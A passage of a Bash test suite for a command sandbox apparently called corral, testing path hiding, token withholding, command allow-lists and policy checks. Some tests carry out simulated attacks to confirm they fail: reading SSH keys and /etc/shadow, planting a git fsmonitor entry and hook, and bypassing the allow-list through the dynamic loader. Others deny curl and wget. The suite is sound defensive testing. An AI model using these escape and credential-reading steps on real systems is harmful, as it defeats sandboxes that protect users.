	cr --profile "$WS/p.json" -t 10 -- sleep 1.5; assert_eq $? 0
}

test_policy_ro_rw_extra_paths() {
	local ext ro_dir
	ext=$(mktemp -d /tmp/corral-ext.XXXXXX); ro_dir=$(mktemp -d /tmp/corral-ro.XXXXXX)
	chmod 777 "$ext"; chmod 755 "$ro_dir"
	echo data >"$ro_dir/in"
	cr --rw "$ext" --ro "$ro_dir" -c "cat $ro_dir/in > $ext/out; echo x > $ro_dir/bad" 2>/dev/null
	assert_eq "$(cat "$ext/out")" data
	[ ! -e "$ro_dir/bad" ] || fail "wrote into a --ro tree"
	rm -rf "$ext" "$ro_dir"
}

test_policy_env_globs() {
	local out
	out=$(LC_FOO=a LC_BAR=b MY_TOKEN=t0ken OTHER=o cr --env 'LC_*' --env MY_TOKEN -- env 2>"$WS/.err")
	assert_contains "$out" "LC_FOO=a"
	assert_contains "$out" "LC_BAR=b"
	assert_not_contains "$out" "OTHER=o"
	assert_not_contains "$out" "t0ken"
	assert_contains "$(cat "$WS/.err")" "withheld"
	# explicit set always applies, even for a denied name
	out=$(cr --env MY_TOKEN=explicit -- env)
	assert_contains "$out" "MY_TOKEN=explicit"
	# a profile with allow/deny/set
	cat >"$WS/p.json" <<'J'
{"env": {"allow": ["APP_*"], "deny": ["APP_SECRET*"], "set": {"MODE": "test"}}}
J
	out=$(APP_NAME=n APP_SECRET_X=s cr --profile "$WS/p.json" -- env)
	assert_contains "$out" "APP_NAME=n"
	assert_not_contains "$out" "APP_SECRET_X"
	assert_contains "$out" "MODE=test"
	# deny globs match regardless of case, and the defaults catch more spellings of a
	# credential; names that only look alike pass (--redact off: the values themselves
	# must be absent, not masked)
	out=$(github_token=lc-t0k MYSQL_PWD=my-pw GITHUB_PAT=p4t GITLAB_TOKEN_RO=ro-t0k app_secret_y=s2 \
		TOKENIZERS_PARALLELISM=false GIT_AUTHOR_NAME=me \
		cr --redact off --profile "$WS/p.json" --env '*' -- env)
	local v
	for v in lc-t0k my-pw p4t ro-t0k s2; do
		assert_not_contains "$out" "=$v"
	done
	assert_contains "$out" "TOKENIZERS_PARALLELISM=false"
	assert_contains "$out" "GIT_AUTHOR_NAME=me"
}

test_policy_command_deny_preflight() {
	cat >"$WS/p.json" <<'J'
{"commands": {"deny": [{"match": "curl", "reason": "no downloads here"}, "/usr/bin/wget"]}}
J
	local e
	e=$(cr --profile "$WS/p.json" -- curl http://example.com 2>&1); assert_eq $? 126
	assert_contains "$e" "no downloads here"
	e=$(cr --profile "$WS/p.json" -- /usr/bin/curl --version 2>&1); assert_eq $? 126
}

test_policy_command_allowlist_kernel_enforced() {
	cat >"$WS/p.json" <<'J'
{"commands": {"allow": ["sh", "echo", {"match": "cat", "reason": "reading is fine"}]}}
J
	echo hello >"$WS/in"
	# allowed: sh -c with echo and cat
	assert_eq "$(cr --profile "$WS/p.json" -c 'cat in; echo done')" "hello
done"
	# not allowed at the top: preflight, exit 126, nothing ran
	cr --profile "$WS/p.json" -- touch "$WS/m0" 2>/dev/null; assert_eq $? 126
	# not allowed inside: nested sh -c, $(...), an absolute path, a script, python
	printf '#!/bin/sh\ntouch m4\n' >"$WS/s.sh"; chmod +x "$WS/s.sh"
	cr --profile "$WS/p.json" -c 'sh -c "touch m1"; x=$(touch m2); /usr/bin/touch m3; ./s.sh; cp in m5; /usr/bin/python3 -c "open(\"m6\",\"w\")"' 2>/dev/null
	for m in m0 m1 m2 m3 m4 m5 m6; do
		[ ! -e "$WS/$m" ] || fail "$m was created: the allow-list was bypassed"
	done
	# control: without the allow-list the same command does create them
	cr -c 'sh -c "touch m1"; /usr/bin/touch m3'
	[ -e "$WS/m1" ] && [ -e "$WS/m3" ] || fail "control run did not create the markers"
}

test_policy_command_allowlist_loader_limit() {
	# A documented limit (docs/policy.md, "What the allow-list does not cover"; README,
	# security limits): the dynamic loader keeps the execute right, since every allowed ELF
	# program needs it; run as a program, it maps and starts any ELF file the sandbox can
	# read, and Landlock's execute right does not govern mmap. This records the behaviour as
	# it is, so that a change is noticed: if this fails, the loader no longer gets around the
	# allow-list, and the docs and this test should say so.
	local ld
	# the ELF interpreter of /bin/sh (PT_INTERP), as the allow-list grants it
	ld=$(python3 - <<'PY'
import struct
d = open("/bin/sh", "rb").read()
if d[4] == 2 and d[5] == 1:  # 64-bit, little-endian
    phoff, = struct.unpack_from("<Q", d, 0x20)
    size, num = struct.unpack_from("<HH", d, 0x36)
    for i in range(num):
        o = phoff + i * size
        if struct.unpack_from("<I", d, o)[0] == 3:
            off, = struct.unpack_from("<Q", d, o + 8)
            n, = struct.unpack_from("<Q", d, o + 32)
            print(d[off:off + n].rstrip(b"\0").decode())
PY
)
	[ -n "$ld" ] || skip "no ELF interpreter found for /bin/sh"
	cat >"$WS/p.json" <<'J'
{"commands": {"allow": ["sh", "echo"]}}
J
	cr --profile "$WS/p.json" -c "$ld /usr/bin/touch via_loader; /usr/bin/touch direct" 2>/dev/null
	[ ! -e "$WS/direct" ] || fail "the allow-list was bypassed by an absolute path"
	[ -e "$WS/via_loader" ] || fail "the loader no longer runs a program that is not allowed: the limit documented in docs/policy.md is gone; update the docs and this test"
}

test_policy_command_allowlist_without_landlock() {
	# --mode auto on a host without Landlock: the allow-list is a preflight only, and the
	# run says so in its isolation record and on stderr
	cat >"$WS/p.json" <<'J'
{"commands": {"allow": ["sh", "echo"]}}
J
	local out err="$WS/../err.$$"
	out=$("$NOLAYER" landlock -- "$CORRAL" run -w "$WS" --mode auto --json --profile "$WS/p.json" -c '/usr/bin/touch m2' 2>"$err")
	assert_eq "$(jget isolation.landlock.applied <<<"$out")" false
	assert_contains "$(jget isolation.landlock.detail <<<"$out")" "command allow-list NOT enforced (preflight only)"
	assert_contains "$(cat "$err")" "warning: Landlock is unavailable"
	# what "not enforced" means, seen on the host: the nested command ran
	[ -e "$WS/m2" ] || fail "the nested command did not run (then the record should not say NOT enforced)"
	# the preflight still holds for the top-level command
	"$NOLAYER" landlock -- "$CORRAL" run -w "$WS" --mode auto --profile "$WS/p.json" -- touch m0 2>/dev/null
	assert_eq $? 126
	[ ! -e "$WS/m0" ] || fail "the preflight let a command off the allow-list run"
	# without an allow-list there is nothing to warn about
	"$NOLAYER" landlock -- "$CORRAL" run -w "$WS" --mode auto -- true 2>"$err"
	assert_not_contains "$(cat "$err")" "allow-list"
	# mode required refuses the run instead
	"$NOLAYER" landlock -- "$CORRAL" run -w "$WS" --mode required --profile "$WS/p.json" -c '/usr/bin/touch m3' 2>/dev/null
	assert_eq $? 125
	[ ! -e "$WS/m3" ] || fail "mode required ran without Landlock"
	rm -f "$err"
}

test_policy_arg_confinement() {
	local e
	e=$(cr -- cat /root/.ssh/id_rsa 2>&1); assert_eq $? 126
	assert_contains "$e" "outside what the sandbox can see"
	e=$(cr --hide sec -- cat ./sec/x 2>&1); assert_eq $? 126
	assert_contains "$e" "hides"
	# paths inside the workspace, /tmp and the system are fine
	cr -- ls /usr/bin/env ./ /tmp >/dev/null; assert_eq $? 0
}

# A working directory inside a hidden tree (-C into a --hide'd directory, or the workspace
# itself hidden) is refused before anything runs, exit 125, naming the cwd and the rule: it
# used to be accepted, and the command then failed at its first look (EACCES).
test_policy_cwd_inside_hidden_tree_refused() {
	mkdir -p "$WS/secrets/sub" "$WS/src"
	echo key >"$WS/secrets/k"
	local out rc c
	for c in secrets secrets/sub "$WS/secrets/sub"; do
		out=$("$CORRAL" run -w "$WS" --audit off --hide secrets -C "$c" -- touch "$WS/src/ran" 2>&1); rc=$?
		assert_eq "$rc" 125 "-C $c: $out"
		assert_eq "$(wc -l <<<"$out")" 1 "-C $c: one line: $out"
		assert_contains "$out" "corral: cwd: $WS/secrets"
		assert_contains "$out" "is inside $WS/secrets, which the hide rule 'secrets' (--hide, filesystem.deny) hides"
		[ ! -e "$WS/src/ran" ] || fail "the command ran with -C $c"
	done
	# a profile's rule is named the same way; so is a hidden workspace (the default cwd)
	printf '{"filesystem": {"deny": ["secrets/sub"]}}\n' >"$WS/p.json"
	out=$("$CORRAL" run -w "$WS" --audit off --profile "$WS/p.json" -C secrets/sub -- true 2>&1)
	assert_eq $? 125 "$out"
	assert_contains "$out" "which the hide rule 'secrets/sub'"
	out=$("$CORRAL" run -w "$WS" --audit off --hide "$WS" -- true 2>&1); assert_eq $? 125 "$out"
	assert_contains "$out" "cwd: the workspace $WS is inside $WS, which the hide rule '$WS'"
	# the dry run says it too
	out=$("$CORRAL" run -w "$WS" --audit off --hide secrets -C secrets --dry-run -- true 2>&1)
	assert_eq $? 125 "$out"
	assert_contains "$out" "error:     cwd: $WS/secrets is inside $WS/secrets"
	# controls: a cwd beside the hidden tree runs; mode none hides nothing, so there it runs
	assert_eq "$("$CORRAL" run -w "$WS" --audit off --hide secrets -C src -- pwd)" "$WS/src"
	assert_eq "$("$CORRAL" run -w "$WS" --audit off --mode none --hide secrets -C secrets -- cat k)" key
}

test_policy_validate_errors() {
	printf '{\n  "filesystem": {"read": ["a"]},\n  "limits": {"memory": "12Q"}\n}\n' >"$WS/bad.json"
	local e
	e=$("$CORRAL" policy validate "$WS/bad.json" 2>&1); assert_eq $? 125
	assert_contains "$e" "bad.json:3:"
	assert_contains "$e" "limits.memory"
	printf '{"netwrok": "none"}' >"$WS/bad2.json"
	e=$("$CORRAL" policy validate "$WS/bad2.json" 2>&1); assert_eq $? 125
	assert_contains "$e" "netwrok"
	assert_contains "$e" "network"
	printf '{"network": "none",}' >"$WS/bad3.json"
	e=$("$CORRAL" policy validate "$WS/bad3.json" 2>&1); assert_eq $? 125
	assert_contains "$e" "bad3.json:1:"
	e=$(cr --profile "$WS/bad2.json" -- true 2>&1); assert_eq $? 125
	assert_contains "$e" "netwrok"
	e=$(cr --profile nosuchprofile -- true 2>&1); assert_eq $? 125
	assert_contains "$e" "nosuchprofile"
	for f in "$DOCS"/examples/*.json; do
		# --syntax-only: an example names host paths (~/.cache/pip) this machine may lack
		"$CORRAL" policy validate --syntax-only "$f" >/dev/null || fail "example $f does not validate"
	done
}

test_policy_check_query() {
	local out
	out=$("$CORRAL" policy check -w "$WS" --read /etc/shadow --json); assert_eq $? 1
	assert_eq "$(jget allowed <<<"$out")" false
	out=$("$CORRAL" policy check -w "$WS" --write .mcp.json --json)
	assert_eq "$(jget allowed <<<"$out")" false
	assert_contains "$(jget rule <<<"$out")" protected
	out=$("$CORRAL" policy check -w "$WS" --write src/main.c --json); assert_eq $? 0
	assert_eq "$(jget allowed <<<"$out")" true
	out=$("$CORRAL" policy check -w "$WS" --net pypi.org:443 --json)
	assert_eq "$(jget allowed <<<"$out")" false
	out=$("$CORRAL" policy check -w "$WS" --profile network --net pypi.org:443 --json)
	assert_eq "$(jget allowed <<<"$out")" true
	out=$("$CORRAL" policy check -w "$WS" --exec sh --json)
	assert_eq "$(jget allowed <<<"$out")" true
}

# --net takes HOST:PORT only: a malformed value is a usage error naming it and the form,
# not an answer; the forms that are well formed (IPv6 in brackets too) are still answered.
test_policy_check_net_malformed() {
	local v out
	for v in bad 1.2.3.4:99999 :80 1.2.3.4:-1 1.2.3.4:80:90 host:0 ::1:443 '[::1]'; do
		out=$("$CORRAL" policy check -w "$WS" --net "$v" 2>&1); assert_eq $? 125 "--net $v: $out"
		assert_eq "$(wc -l <<<"$out")" 1 "--net $v: $out"
		assert_contains "$out" "invalid value '$v' for --net"
		assert_contains "$out" "HOST:PORT"
		assert_not_contains "$out" "DENIED"
	done
	for v in pypi.org:443 127.0.0.1:80 '[::1]:443' '[2001:db8::1]:8080'; do
		out=$("$CORRAL" policy check -w "$WS" --net "$v" --json); assert_eq $? 1 "--net $v: $out"
		assert_eq "$(jget allowed <<<"$out")" false
		out=$("$CORRAL" policy check -w "$WS" --profile network --net "$v" --json)
		assert_eq $? 0 "--net $v under the network profile: $out"
	done
}

# Output that cannot be written (a full disk) is corral's failure: exit 125 and one line
# naming the reason, for the commands that print a plan, an answer or a host report.
test_policy_output_write_failure() {
	local args err rc
	for args in "check --json" "policy check -w $WS --read /etc/passwd" \
		"policy check -w $WS --read /etc/shadow --json" "policy explain -w $WS -- true" \
		"policy explain -w $WS --json -- true" "run -w $WS --dry-run --json -- true" \
		"run -w $WS --dry-run -- true" "run -w $WS --dry-run --pipe true --pipe cat" \
		"policy --help" "help run" version; do
		# shellcheck disable=SC2086
		"$CORRAL" $args >/dev/null 2>&1; rc=$?
		[ $rc -le 1 ] || fail "control: corral $args exited $rc"
		# shellcheck disable=SC2086
		err=$("$CORRAL" $args 2>&1 >/dev/full); rc=$?
		assert_eq "$rc" 125 "corral $args >/dev/full: $err"
		assert_eq "$err" "corral: writing the output: No space left on device" "corral $args"
	done
}

test_policy_check_mode_none_agrees_with_the_run() {
	# mode none isolates nothing: policy check (and can_i, the same code) must not answer
	# "read-only" or "hidden" for what the run then changes; a command rule still holds at
	# preflight, and the answer says so. Host-side: the files the answers call writable are
	# written by the run, the denied command never ran.
	local out p="$WS/../none.$$.json"
	cat >"$p" <<'J'
{"mode": "none", "filesystem": {"deny": ["hidden"]},
 "commands": {"deny": [{"match": "touch", "reason": "no touching"}]}}
J
	out=$("$CORRAL" policy check -w "$WS" --profile "$p" --write .mcp.json --json)
	assert_eq $? 0 "policy check --write .mcp.json in mode none"
	assert_eq "$(jget rule <<<"$out")" "mode none"
	assert_contains "$(jget reason <<<"$out")" "not enforced"
	out=$("$CORRAL" policy check -w "$WS" --profile "$p" --write hidden/x --json)
	assert_eq "$(jget allowed <<<"$out")" true "a filesystem.deny path in mode none"
	out=$("$CORRAL" policy check -w "$WS" --profile "$p" --net 192.0.2.1:80 --json)
	assert_eq "$(jget allowed <<<"$out")" true "the network in mode none"
	out=$("$CORRAL" policy check -w "$WS" --profile "$p" --exec touch --json)
	assert_eq $? 1 "policy check --exec touch (commands.deny) in mode none"
	assert_contains "$(jget rule <<<"$out")" "mode none, commands.deny"
	assert_contains "$(jget reason <<<"$out")" "no touching"
	assert_contains "$(jget reason <<<"$out")" "top-level command only"
	out=$("$CORRAL" policy check -w "$WS" --profile "$p" --exec sh --json)
	assert_eq $? 0
	assert_contains "$(jget reason <<<"$out")" "top-level command only"
	# the runs agree
	mkdir -p "$WS/hidden"
	"$CORRAL" run -w "$WS" --profile "$p" --audit off -- sh -c 'echo in > .mcp.json; echo in > hidden/x' >/dev/null 2>&1
	assert_eq $? 0
	assert_eq "$(cat "$WS/.mcp.json")" in "the run wrote the path the answer called writable"
	assert_eq "$(cat "$WS/hidden/x")" in "the run wrote the denied path in mode none"
	"$CORRAL" run -w "$WS" --profile "$p" --audit off -- touch "$WS/ran" >/dev/null 2>&1
	assert_eq $? 126 "a commands.deny command in mode none"
	[ ! -e "$WS/ran" ] || fail "the denied command ran in mode none"
	# control: the same questions under the default profile are refused
	out=$("$CORRAL" policy check -w "$WS" --write .mcp.json --json)
	assert_eq $? 1 "control: .mcp.json under the default profile"
	rm -f "$p"
}

test_policy_check_exec_hidden_binary() {
	# the exec query resolves the command the way the sandbox would: through its PATH, past
	# files it cannot see; a hidden binary is denied, naming the rule, and the run agrees
	local out bin="$WS.bin"
	cat >"$WS/../h.$$.json" <<'J'
{"filesystem": {"deny": ["/usr/bin/env"]}}
J
	out=$("$CORRAL" policy check -w "$WS" --profile "$WS/../h.$$.json" --exec env --json); assert_eq $? 1
	assert_eq "$(jget allowed <<<"$out")" false
	assert_contains "$(jget rule <<<"$out")" "filesystem.deny /usr/bin/env"
	out=$("$CORRAL" policy check -w "$WS" --profile "$WS/../h.$$.json" --exec /usr/bin/env --json); assert_eq $? 1
	cr --profile "$WS/../h.$$.json" -- env >/dev/null 2>&1; assert_eq $? 126
	# control: without the rule the same query answers allowed
	out=$("$CORRAL" policy check -w "$WS" --exec env --json); assert_eq $? 0
	rm -f "$WS/../h.$$.json"
	# a PATH entry outside every tree the sandbox sees
	rm -rf "$bin"; mkdir -p "$bin"
	printf '#!/bin/sh\necho hi\n' >"$bin/wpa-tool"; cp /bin/true "$bin/true"; chmod +x "$bin"/*
	cat >"$WS/../p.$$.json" <<J
{"env": {"set": {"PATH": "$bin:/usr/bin:/bin"}}}
J
	out=$("$CORRAL" policy check -w "$WS" --profile "$WS/../p.$$.json" --exec wpa-tool --json); assert_eq $? 1
	assert_eq "$(jget rule <<<"$out")" "not visible"
	cr --profile "$WS/../p.$$.json" -- wpa-tool >/dev/null 2>&1; assert_eq $? 127
	# a hidden copy earlier in PATH does not hide a visible one later (as in execvp)
	out=$("$CORRAL" policy check -w "$WS" --profile "$WS/../p.$$.json" --exec true --json); assert_eq $? 0
	cr --profile "$WS/../p.$$.json" -- true; assert_eq $? 0
	# a binary in the host's /tmp is not the sandbox's /tmp
	if [[ $bin != "$WS"* ]] && [[ $bin == /tmp/* ]]; then
		out=$("$CORRAL" policy check -w "$WS" --exec "$bin/wpa-tool" --json); assert_eq $? 1
	fi
	rm -rf "$bin" "$WS/../p.$$.json"
}

test_policy_dry_run_matches_mountinfo() {
	# Every planned mount is in the sandbox's mountinfo with the planned read-only or
	# read-write state (optional ones when their host source exists), and nothing else is
	mkdir -p "$WS/sec" "$WS/.git/hooks"
	local plan
	cr --dry-run --json --hide sec -- true >"$WS/../plan.$$.json"
	plan=$(cat "$WS/../plan.$$.json")
	[ "$(jget command.decision <<<"$plan")" = allowed ] || fail "dry-run decision"
	cr --hide sec -- cat /proc/self/mountinfo >"$WS/../mi.$$.txt"
	python3 - "$WS/../plan.$$.json" "$WS/../mi.$$.txt" "$WS" <<'PY' || fail "the plan and the sandbox's mounts differ"
import json, os, sys
plan = json.load(open(sys.argv[1])); ws = sys.argv[3]
mounted = {}
for l in open(sys.argv[2]).read().splitlines():
    f = l.split()
    mounted[f[4]] = f[5].split(",")[0]          # the top-most mount at a target wins
ro_types = {"bind-ro", "file-ro", "mask", "read-only"}
want, optional_absent = {}, set()
for m in plan["mounts"]:
    if m["type"] in ("symlink", "dir"):
        continue
    src = m.get("source") or m["target"]
    if m.get("optional") and not os.path.exists(src):
        optional_absent.add(m["target"]); continue
    want[m["target"]] = "ro" if m["type"] in ro_types else "rw"
for p in plan["protected"]:
    want[p] = "ro"
want["/"] = "ro"
assert "/usr" in want and any(t.endswith("/sec") for t in want), "the plan lacks /usr or the mask"
assert ws + "/.git" in want, "the directory on the way to .git/hooks is not pinned"
bad = []
for t, state in sorted(want.items()):
    if t not in mounted:
        bad.append("missing " + t)
    elif mounted[t] != state:
        bad.append("%s is %s, planned %s" % (t, mounted[t], state))
extra = set(mounted) - set(want) - optional_absent
if extra:
    bad.append("not planned: %s" % sorted(extra))
if bad:
    print("\n".join(bad)); sys.exit(1)
PY
	rm -f "$WS/../plan.$$.json" "$WS/../mi.$$.txt"
	# and nothing ran, nothing was created by the dry run
	assert_eq "$(ls -A "$WS")" ".git
sec"
	assert_eq "$(ls -A "$WS/.git")" "hooks"
}

test_policy_explain_text() {
	local out
	out=$("$CORRAL" policy explain -w "$WS" --env HOME_SECRET_TOKEN -- ls)
	for w in "mounts:" "landlock: abi" "seccomp:" "limits:" "command: ls -> allowed"; do
		assert_contains "$out" "$w"
	done
	out=$(GITHUB_TOKEN=ghp_supersecret "$CORRAL" policy explain -w "$WS" -- ls)
	assert_contains "$out" "withheld: GITHUB_TOKEN"
	assert_not_contains "$out" "ghp_supersecret"
}

test_policy_protected_uninspectable_is_not_absent() {
	# A sandbox owns the workspace: in one run it can chmod .git to 000, so that the next
	# run cannot look inside. "Cannot look" must not read as "absent" (nothing to protect):
	# that run would leave .git/config and .git/hooks writable, and the sandbox would chmod
	# .git back and plant a hook. Judged on the host: config unchanged, no hook.
	mkdir -p "$WS/.git/hooks"
	printf '[core]\n\tbare = false\n' >"$WS/.git/config"
	local h out rc
	h=$(sha256sum "$WS/.git/config")
	chmod 000 "$WS/.git"
	out=$(cr -c 'chmod 755 .git; printf "[core]\n\tfsmonitor = evil\n" >> .git/config; echo evil > .git/hooks/pre-commit' 2>&1)
	rc=$?
	chmod 755 "$WS/.git"
	assert_eq "$(sha256sum "$WS/.git/config")" "$h" "the host's .git/config after a run over a chmod 000 .git"
	[ ! -e "$WS/.git/hooks/pre-commit" ] || fail "a hook was planted: $(cat "$WS/.git/hooks/pre-commit")"
	if ! is_root; then
		# root looks in anyway (its capabilities); a user's run is refused, naming the path
		[ "$rc" -ne 0 ] || fail "the run over an uninspectable .git was not refused: $out"
		assert_contains "$out" "cannot inspect the protected path"
		assert_contains "$out" ".git"
	fi
}

# A placeholder that cannot be made because its directory (here the workspace itself, this
# user's, chmod 555) cannot be written refuses the run, and the message tells the protected
# path from its directory: it used to call the workspace "the protected path". Root runs
# without its capabilities here, as the owner would.
test_policy_placeholder_directory_unwritable_named() {
	local ws=$WS/ro-ws out rc
	mkdir "$ws"
	chmod 555 "$ws"
	if is_root; then
		out=$(setpriv --inh-caps=-all --bounding-set=-all -- "$CORRAL" run -w "$ws" --audit off -- true 2>&1)
	else
		out=$("$CORRAL" run -w "$ws" --audit off -- true 2>&1)
	fi
	rc=$?
	chmod 755 "$ws"
	assert_eq "$rc" 126 "$out"
	assert_contains "$out" "cannot make the placeholder for the protected path $ws/.git: its directory $ws cannot be written (Permission denied)"
	assert_contains "$out" "chmod u+rwx $ws"
	assert_not_contains "$out" "the protected path $ws:"
	[ ! -e "$ws/.git" ] || fail "a placeholder was left"
}

# explain plans the limits a run gets: where a cgroup enforces the memory and process limits,
# its rlimits have no RLIMIT_DATA/RLIMIT_NPROC stand-ins (before, explain listed "data
# (memory fallback)" for a cgroup it planned). Compared with what a real run recorded.
# With a CPU share: where the cpu controller is missing (here made so with the test hook),
# mode auto keeps the cgroup for a memory limit and drops only the share.
test_policy_explain_limits_match_a_run() {
	local lim ex run layer dis want got
	for dis in "" cgroup-cpu; do
		for lim in "" "--memory 256M" "--memory 256M --pids 64" "--mode auto --cpus 0.5" \
			"--mode auto --cpus 0.5 --memory 256M"; do
			# shellcheck disable=SC2086 # the limits are words
			ex=$(CORRAL_TEST_DISABLE=$dis "$CORRAL" policy explain -w "$WS" $lim --json -- true) ||
				fail "explain $lim failed"
			# shellcheck disable=SC2086
			run=$(CORRAL_TEST_DISABLE=$dis cr $lim --json -- true) || fail "the run with $lim failed: $run"
			for layer in cgroup rlimits; do
				assert_eq "$(jget "isolation.$layer.applied" <<<"$ex")" "$(jget "isolation.$layer.applied" <<<"$run")" "$layer applied, explain vs run, limits '$lim', disabled '$dis'"
			done
			assert_eq "$(jget isolation.rlimits.detail <<<"$ex")" "$(jget isolation.rlimits.detail <<<"$run")" "rlimits, explain vs run, limits '$lim', disabled '$dis'"
			if [[ $lim == *cpus* ]]; then
				[[ $(jget isolation.cgroup.detail <<<"$run") == *"NOT enforced"* ]] && want=1 || want=0
				[[ $(jget isolation.cgroup.detail <<<"$ex") == *"NOT enforced"* ]] && got=1 || got=0
				assert_eq "$got" "$want" "explain says the CPU share is not enforced as the run does (limits '$lim', disabled '$dis'): explain $(jget isolation.cgroup.detail <<<"$ex"), run $(jget isolation.cgroup.detail <<<"$run")"
			fi
		done
	done
	# Mode required with a CPU share: where no cgroup can enforce it (the test hook takes the
	# cpu controller away), the run is refused, and explain says so with the run's status
	# and message; so does `corral mcp`, which would fail every call, by refusing to start.
	# Where the share holds (root on this machine kind), all three go ahead; an unprivileged
	# caller without a delegated cgroup is refused by all three.
	local rc_ex rc_run err_run err_mcp rc_mcp
	for dis in "" cgroup-cpu; do
		ex=$(CORRAL_TEST_DISABLE=$dis "$CORRAL" policy explain -w "$WS" --mode required --cpus 0.5 --json -- true)
		rc_ex=$?
		err_run=$(CORRAL_TEST_DISABLE=$dis "$CORRAL" run -w "$WS" --mode required --cpus 0.5 -- true 2>&1 >/dev/null)
		rc_run=$?
		err_mcp=$(CORRAL_TEST_DISABLE=$dis "$CORRAL" mcp -w "$WS" --audit off --mode required --cpus 0.5 </dev/null 2>&1 >/dev/null)
		rc_mcp=$?
		if [ -n "$dis" ] || ! is_root; then
			assert_eq "$rc_run" 125 "a required CPU share without a cgroup for it refuses the run: $err_run"
			assert_contains "$err_run" "a CPU share (--cpus) needs a cgroup"
			assert_eq "$rc_ex" 125 "explain exits as the run would"
			assert_contains "$(jget error <<<"$ex")" "a CPU share (--cpus) needs a cgroup"
			# the reason, as the run gives it: root has a cgroup and lacks only the
			# controller; uid 65534 here has no cgroup at all
			if is_root; then
				assert_contains "$(jget error <<<"$ex")" "no cpu controller (disabled by CORRAL_TEST_DISABLE=cgroup-cpu)"
			else
				[[ $(jget error <<<"$ex") == *"no usable cgroup"* || $(jget error <<<"$ex") == *"no cpu controller"* ]] ||
					fail "explain names no reason: $(jget error <<<"$ex")"
			fi
			assert_eq "$rc_mcp" 125 "corral mcp refuses to start: $err_mcp"
			assert_contains "$err_mcp" "no call could run"
			assert_contains "$err_mcp" "a CPU share (--cpus) needs a cgroup"
		else
			assert_eq "$rc_run" 0 "a required CPU share with the cpu controller runs: $err_run"
			assert_eq "$rc_ex" 0 "explain with the cpu controller"
			assert_eq "$(jget error <<<"$ex")" "" "no error in explain"
			assert_eq "$(jget isolation.cgroup.applied <<<"$ex")" true "the cgroup is planned"
			assert_eq "$rc_mcp" 0 "corral mcp starts (and ends at EOF): $err_mcp"
		fi
	done
}
